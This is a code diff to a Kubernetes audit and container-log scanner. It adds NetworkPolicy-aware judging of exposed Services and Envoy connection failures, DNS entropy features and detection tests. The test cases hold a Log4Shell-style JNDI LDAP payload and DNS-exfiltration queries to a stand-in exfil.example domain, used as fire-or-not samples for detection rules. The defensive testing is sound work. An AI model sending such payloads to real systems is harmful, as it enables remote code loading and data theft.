@@ -13,9 +13,10 @@ use palisade_inventory::severity::Severity;
 use regex::Regex;
 use serde_json::{Value, json};
 
-use crate::access::{parse_coredns, parse_envoy};
+use crate::access::{failed_destination, parse_coredns, parse_envoy};
 use crate::audit::{AuditEvent, AuditStats, read_audit_log_gated};
 use crate::container::{LogLine, LogSource, LogStats, read_container_log_gated};
+use crate::judge::{isolated_backends, policy_allows};
 use crate::prefilter::LineFilter;
 use crate::rules::{Firing, InText, RuleSet, key_pattern};
 use crate::timeline::{Step, Timeline};
@@ -105,7 +106,9 @@ impl Scanner {
                 .or(event.request_received.as_deref())
                 .and_then(|t| palisade_flow::generic::parse_rfc3339(t).ok())
                 .unwrap_or(0);
-            for firing in rules.evaluate("k8s_audit", &event.raw, micros) {
+            let judged = timeline.as_ref().and_then(|t| judged_service(t, &event));
+            for firing in rules.evaluate("k8s_audit", judged.as_ref().unwrap_or(&event.raw), micros)
+            {
                 sink(audit_alert(&firing, &event, file));
             }
             let step = timeline
@@ -125,10 +128,11 @@ impl Scanner {
         sink: &mut dyn FnMut(Alert),
     ) -> LogStats {
         let (gate, rules) = (&self.container_gate, &mut self.rules);
+        let timeline = self.timeline.as_ref();
         let admit = |message: &str| gate.as_ref().is_none_or(|g| g.admits(message));
         let prefilter = gate.as_ref().and_then(MessageGate::prefilter);
         read_container_log_gated(input, source, &admit, prefilter, &mut |line| {
-            let record = container_record(&line);
+            let record = container_record(&line, timeline);
             let micros = line
                 .time
                 .as_deref()
@@ -364,14 +368,46 @@ fn widening(step: &Step) -> Option<Firing> {
     })
 }
 
-/// What rules see of a container log line: its text, its source, and what
-/// it says when it is an Envoy access line or a CoreDNS query.
-fn container_record(line: &LogLine) -> Value {
+/// A Service event with what the seed says of its backends
+/// (`palisade.isolated_backends`), or `None` for other events and when
+/// the seed cannot say.
+fn judged_service(timeline: &Timeline, event: &AuditEvent) -> Option<Value> {
+    let object = event.object_ref.as_ref()?;
+    if object.resource != "services" || object.subresource.is_some() {
+        return None;
+    }
+    let namespace = object.namespace.as_deref()?;
+    // The stored object when logged, else the request (a patch body may
+    // lack the selector, and then there is nothing to judge).
+    let service = ["responseObject", "requestObject"]
+        .iter()
+        .filter_map(|key| event.raw.get(key))
+        .find(|o| o.pointer("/spec/selector").is_some())?;
+    let isolated = isolated_backends(
+        timeline.inventory(),
+        timeline.settings(),
+        namespace,
+        service,
+    )?;
+    let mut judged = event.raw.clone();
+    judged["palisade"] = json!({"isolated_backends": isolated});
+    Some(judged)
+}
+
+/// What rules see of a container log line: its text, its source, what it
+/// says when it is an Envoy access line or a CoreDNS query, and where a
+/// connection it tells of was going. With a seed, an Envoy line with
+/// response flags from a pod's sidecar (not to its own app) is judged by
+/// the policy: `palisade.policy_allows`.
+fn container_record(line: &LogLine, seed: Option<&Timeline>) -> Value {
     let mut record = json!({
         "message": line.message,
         "stream": format!("{:?}", line.stream).to_ascii_lowercase(),
         "time": line.time,
     });
+    if let Some(destination) = failed_destination(&line.message) {
+        record["conn"] = json!({ "destination": destination });
+    }
     if let Some(source) = &line.source {
         record["source"] = json!({
             "namespace": source.namespace,
@@ -384,12 +420,32 @@ fn container_record(line: &LogLine) -> Value {
         record["envoy"] = json!({
             "method": envoy.method, "path": envoy.path, "status": envoy.status,
             "flags": envoy.flags, "details": envoy.details,
-            "upstream_host": envoy.upstream_host, "user_agent": envoy.user_agent,
+            "upstream_host": envoy.upstream_host, "upstream_cluster": envoy.upstream_cluster,
+            "user_agent": envoy.user_agent,
         });
+        let outbound = envoy
+            .upstream_cluster
+            .as_deref()
+            .is_none_or(|c| !c.starts_with("inbound|"));
+        let judged = seed
+            .zip(line.source.as_ref())
+            .zip(envoy.upstream_host.as_deref())
+            .filter(|_| outbound && !envoy.flags.is_empty())
+            .and_then(|((t, source), upstream)| {
+                policy_allows(t.inventory(), t.settings(), source, upstream)
+            });
+        if let Some(allows) = judged {
+            record["palisade"] = json!({ "policy_allows": allows });
+        }
     }
     if let Some(dns) = parse_coredns(dns_part(&line.message)) {
+        let run = dns.longest_run();
         record["dns"] = json!({
             "client": dns.client, "type": dns.qtype, "name": dns.name, "rcode": dns.rcode,
+            "run": {
+                "length": run.length, "entropy": run.entropy,
+                "digits": run.digits, "letters": run.letters,
+            },
         });
     }
     record
@@ -739,6 +795,117 @@ mod tests {
         rules
     }
 
+    /// A seed of shop: web-1 may reach db-1 on 5432, which a policy
+    /// isolates; cache-1 is isolated by none.
+    const SEED: &str = r#"
+apiVersion: v1
+kind: Pod
+metadata: {name: web-1, namespace: shop, labels: {app: web}}
+status: {podIP: 10.0.0.1}
+---
+apiVersion: v1
+kind: Pod
+metadata: {name: db-1, namespace: shop, labels: {app: db}}
+status: {podIP: 10.0.0.2}
+---
+apiVersion: v1
+kind: Pod
+metadata: {name: cache-1, namespace: shop, labels: {app: cache}}
+status: {podIP: 10.0.0.3}
+---
+apiVersion: networking.k8s.io/v1
+kind: NetworkPolicy
+metadata: {name: db, namespace: shop}
+spec:
+  podSelector: {matchLabels: {app: db}}
+  ingress:
+  - from: [{podSelector: {matchLabels: {app: web}}}]
+    ports: [{port: 5432}]
+"#;
+
+    fn seeded() -> Scanner {
+        let (timeline, diagnostics) =
+            Timeline::seed(&[("seed.yaml".into(), SEED.into())], Default::default());
+        assert!(diagnostics.is_empty(), "{diagnostics:?}");
+        Scanner::new(&[]).unwrap().with_seed(timeline)
+    }
+
+    /// With a seed, exposing a Service fires only when a policy protects
+    /// one of its backends, and an Envoy connect failure only when the
+    /// policy allows the connection; without one both fire as written.
+    #[test]
+    fn a_seed_judges_exposed_services_and_envoy_failures_by_the_policy() {
+        let service = |app: &str, spec: Value| {
+            let mut spec = spec;
+            spec["selector"] = json!({"app": app});
+            event(
+                0,
+                json!({"objectRef": {"resource": "services", "namespace": "shop", "name": app},
+                "requestObject": {"spec": spec}, "responseObject": {"spec": spec}}),
+            )
+        };
+        let seeded_rules = |line: &str| -> Vec<String> {
+            let mut alerts = Vec::new();
+            seeded().audit(line.as_bytes(), &Arc::from("audit.log"), &mut |a| {
+                alerts.push(a.rule.to_string())
+            });
+            alerts
+        };
+        let unseeded_rules = |line: &str| -> Vec<String> {
+            audit(line).iter().map(|a| a.rule.to_string()).collect()
+        };
+        for (rule, spec) in [
+            ("AUDIT-009", json!({"externalIPs": ["192.0.2.1"]})),
+            ("AUDIT-010", json!({"type": "NodePort"})),
+        ] {
+            let protected = service("db", spec.clone());
+            let open = service("cache", spec);
+            assert!(
+                seeded_rules(&protected).contains(&rule.to_string()),
+                "{rule}"
+            );
+            assert!(!seeded_rules(&open).contains(&rule.to_string()), "{rule}");
+            assert!(
+                unseeded_rules(&open).contains(&rule.to_string()),
+                "{rule} unseeded"
+            );
+        }
+        let envoy = |upstream: &str| {
+            format!(
+                r#"2026-11-30T10:00:00Z stdout F [2026-11-30T10:00:00.000Z] "GET / HTTP/1.1" 503 UF upstream_reset_before_response_started{{connection_failure}} - "-" 0 91 24 - "-" "curl/8" "id" "db:5432" "{upstream}" outbound|5432||db.shop.svc.cluster.local - 10.0.0.2:5432 10.0.0.1:34832 - default
+"#
+            )
+        };
+        let logged = |scanner: &mut Scanner, upstream: &str| -> Vec<String> {
+            let mut rules = Vec::new();
+            let source = LogSource {
+                container: "istio-proxy".into(),
+                ..web_1()
+            };
+            let text = envoy(upstream);
+            scanner.container(
+                text.as_bytes(),
+                &Arc::from("0.log"),
+                Some(&source),
+                &mut |a| rules.push(a.rule.to_string()),
+            );
+            rules
+        };
+        assert_eq!(
+            logged(&mut seeded(), "10.0.0.2:5432"),
+            ["LOG-004"],
+            "allowed"
+        );
+        assert!(logged(&mut seeded(), "10.0.0.2:22").is_empty(), "denied");
+        assert_eq!(
+            logged(&mut seeded(), "10.0.0.9:80"),
+            ["LOG-004"],
+            "outside the seed"
+        );
+        let mut unseeded = Scanner::new(&[]).unwrap();
+        assert_eq!(logged(&mut unseeded, "10.0.0.2:22"), ["LOG-004"]);
+    }
+
     /// Every built-in container-log rule, with lines that fire it and close
     /// ones that do not (docs/logs.md, "Built-in rules").
     fn container_cases() -> Vec<(&'static str, Vec<String>, Vec<String>)> {
@@ -762,6 +929,15 @@ mod tests {
         let forbidden = "GET /admin 403 12ms";
         let cases = [
             ("LOG-001", times(20, refused), times(19, refused)),
+            (
+                "LOG-001",
+                times(20, refused),
+                [
+                    times(10, refused),
+                    times(10, &refused.replace("5432", "6379")),
+                ]
+                .concat(),
+            ),
             ("LOG-002", times(20, forbidden), times(19, forbidden)),
             (
                 "LOG-003",
@@ -782,6 +958,18 @@ mod tests {
                 "LOG-006",
                 query(&format!("{}.exfil.example.", "a".repeat(48))),
                 query("api.shop.svc.cluster.local."),
+            ),
+            (
+                "LOG-007",
+                query("4a6f686e20446f65206b6e6f77.t.exfil.example."),
+                query(
+                    "opentelemetrycollectorheadless.kube-state-metrics-7d9f8b6c5-x2x9z.svc.cluster.local.",
+                ),
+            ),
+            (
+                "LOG-008",
+                vec![r#"10.0.0.7 - - "GET /?q=${jndi:ldap://198.51.100.7/a} HTTP/1.1" 200"#.into()],
+                vec![r#"10.0.0.7 - - "GET /?q=jndi HTTP/1.1" 200"#.into()],
             ),
         ];
         cases.into()
@@ -932,7 +1120,18 @@ mod tests {
 
     #[test]
     fn every_built_in_container_rule_fires_on_its_lines_and_not_on_their_neighbours() {
-        for (rule, fires, quiet) in container_cases() {
+        let cases = container_cases();
+        let scanner = Scanner::new(&[]).unwrap();
+        for rule in scanner.rules().rules() {
+            if rule.source.as_deref() == Some("container_log") {
+                assert!(
+                    cases.iter().any(|c| c.0 == rule.id),
+                    "{} has no case",
+                    rule.id
+                );
+            }
+        }
+        for (rule, fires, quiet) in cases {
             let fired = |lines: &[String]| container_rules(lines).iter().any(|r| r == rule);
             assert!(fired(&fires), "{rule} should fire on {fires:?}");
             assert!(!fired(&quiet), "{rule} should not fire on {quiet:?}");
